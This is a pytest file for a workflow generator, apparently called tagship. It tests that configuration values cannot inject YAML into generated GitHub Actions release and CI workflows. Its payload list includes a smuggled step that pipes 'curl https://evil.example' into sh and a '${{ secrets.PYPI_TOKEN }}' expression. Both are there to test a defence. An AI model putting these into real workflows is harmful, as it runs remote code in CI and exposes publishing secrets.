"""No config value can inject YAML into a generated workflow (issue 13).

Every value that reaches release.yml or ci.yml is either refused with a ConfigError or
emitted inert: the parsed workflow then has exactly the generator's jobs, steps and
triggers, and the value comes back unchanged where it was put.
"""

from __future__ import annotations

from typing import Any

import pytest
from ruamel.yaml import YAML

from tagship import config, workflow, workflow_values
from tagship.config import Index, TagshipConfig
from tagship.errors import ConfigError
from tagship.workflow_project import supported_pythons, tagship_python

PAYLOADS = [
    "x\n  evil: true",
    "x\n    - run: curl https://evil.example | sh",
    'x"\nevil: 1',
    "x'",
    "${{ secrets.PYPI_TOKEN }}",
    "x # comment",
    "x: y",
    "x\u2028y",
    "release*",
    "-x",
    "",
    " x",
]


def _load(text: str) -> dict[str, Any]:
    data: dict[str, Any] = YAML(typ="safe").load(text)
    return data


def _shape(text: str) -> dict[str, Any]:
    """What a payload must not change: triggers, job ids, each job's step names and keys."""
    data = _load(text)
    return {
        "on": sorted(data["on"]),
        "top": sorted(data),
        "jobs": {
            name: (sorted(job), [sorted(step) for step in job["steps"]])
            for name, job in data["jobs"].items()
        },
    }


def _staging(upload: str = "https://pkgs.example.com/up/", environment: str = "stage") -> Any:
    staging = Index("staging", "https://pkgs.example.com/simple/", upload)
    return TagshipConfig(
        channels={**config.DEFAULT_CHANNELS, "rc": "staging"},
        indexes={**config.DEFAULT_INDEXES, "staging": staging},
        environments={**config.DEFAULT_ENVIRONMENTS, "staging": environment},
    )


def _url(payload: str) -> str:
    return payload if payload.startswith("https://") else f"https://pkgs.example.com/{payload}"


def _both(spec: workflow.WorkflowSpec) -> str:
    return workflow.release_yml(spec) + "\n---\n" + workflow.ci_yml(spec)


def _specs(payload: str) -> dict[str, Any]:
    """Each injectable value set to the payload, as a spec to build."""
    return {
        "environment": lambda: workflow.spec_for("v$version", _staging(environment=payload)),
        "upload-url": lambda: workflow.spec_for("v$version", _staging(upload=_url(payload))),
        "release-branch": lambda: workflow.spec_for(
            "v$version", TagshipConfig(release_branch=payload)
        ),
        "tag_format": lambda: workflow.spec_for(f"{payload}$version", TagshipConfig()),
        "channel": lambda: workflow.spec_for(
            "v$version",
            TagshipConfig(
                channels={**config.DEFAULT_CHANNELS, "rc": payload},
                indexes={
                    **config.DEFAULT_INDEXES,
                    payload: Index(payload, "https://a/", "https://a/"),
                },
            ),
        ),
        "ci-command": lambda: workflow.spec_for("v$version", TagshipConfig(), ci_command=payload),
        "python": lambda: workflow.spec_for("v$version", TagshipConfig(), pythons=(payload,)),
    }


REFERENCE = {
    "environment": "stage",
    "upload-url": "up/",
    "release-branch": "main",
    "tag_format": "v",
    "channel": "staging",
    "ci-command": "make check",
    "python": "3.12",
}


# The payloads with a legal meaning: a tag_format with no prefix (`$version`) or a prefix
# git takes (`-x$version`), URL paths (the test puts the payload after
# `https://pkgs.example.com/`), an empty environment (the channel's default).
ACCEPTED = {
    ("tag_format", ""),
    ("tag_format", "-x"),
    ("upload-url", ""),
    ("upload-url", "-x"),
    ("environment", ""),
}


@pytest.mark.parametrize("field", sorted(REFERENCE))
@pytest.mark.parametrize("payload", PAYLOADS)
def test_every_injectable_value_is_refused_or_inert(field: str, payload: str) -> None:
    build = _specs(payload)[field]
    if (field, payload) not in ACCEPTED:
        with pytest.raises(ConfigError, match="cannot go into a workflow") as refused:
            _both(build())
        assert "\n" not in str(refused.value)
        return
    reference = _specs(REFERENCE[field])[field]()
    assert [_shape(part) for part in _both(build()).split("\n---\n")] == [
        _shape(part) for part in _both(reference).split("\n---\n")
    ]


@pytest.mark.parametrize(
    ("field", "value"),
    [
        ("environment", "release.v2"),
        ("upload-url", "https://pkgs.example.com:8443/legacy/"),
        ("release-branch", "release/2.x"),
        ("tag_format", "pkg.name_v"),
    ],
)
def test_legal_values_are_emitted_as_written(field: str, value: str) -> None:
    text = _both(_specs(value)[field]())
    found = {
        "environment": lambda d: d[0]["jobs"]["publish-staging"]["environment"],
        "upload-url": lambda d: d[0]["jobs"]["publish-staging"]["steps"][-1]["with"][
            "repository-url"
        ],
        "release-branch": lambda d: d[1]["on"]["push"]["branches"][0],
        "tag_format": lambda d: d[0]["on"]["push"]["tags"][0].removesuffix("*"),
    }[field]([_load(part) for part in text.split("\n---\n")])
    expected = _url(value) if field == "upload-url" else value
    assert found == expected


@pytest.mark.parametrize(
    "value",
    [
        *PAYLOADS,
        "\\",
        "\x00\x1b",
        "\u0085",
        "\ufeffx",
        "é🐍",
        "main\x80x",
        "\x7f\x9f",
        "a\ufffe\uffff",
    ],
)
def test_a_scalar_always_parses_back_to_its_value(value: str) -> None:
    assert _load(f"key: {workflow_values.scalar(value)}\nother: 1\n") == {"key": value, "other": 1}


@pytest.mark.parametrize(
    ("requires", "classifiers", "expected"),
    [
        (">=3.9", [], ("3.9", "3.10", "3.11", "3.12", "3.13", "3.14")),
        (">=3.9.2,<3.12", [], ("3.9", "3.10", "3.11")),
        (">=3.8", [], ("3.9", "3.10", "3.11", "3.12", "3.13", "3.14")),
        (
            ">=3.9",
            ["Programming Language :: Python :: 3.10", "Programming Language :: Python :: 3.12"],
            ("3.10", "3.12"),
        ),
        (
            ">=3.11",
            ["Programming Language :: Python :: 3 :: Only"],
            ("3.11", "3.12", "3.13", "3.14"),
        ),
        (None, [], ("3.12",)),
        (None, ["Programming Language :: Python :: 3.13"], ("3.13",)),
        ("~=3.12.0", [], ("3.12",)),
    ],
)
def test_supported_pythons(
    requires: str | None, classifiers: list[str], expected: tuple[str, ...]
) -> None:
    assert supported_pythons(requires, classifiers) == expected


@pytest.mark.parametrize("requires", [">=4", "<3.9", "not a specifier"])
def test_no_supported_python_is_a_config_error(requires: str) -> None:
    with pytest.raises(ConfigError, match="requires-python"):
        supported_pythons(requires, [])


def test_tagship_runs_on_the_oldest_supported_python_it_supports() -> None:
    assert tagship_python(("3.9", "3.10", "3.11", "3.12")) == "3.11"
    assert tagship_python(("3.13",)) == "3.13"
    with pytest.raises(ConfigError, match=r"tagship runs on 3\.11\+"):
        tagship_python(("3.9", "3.10"))
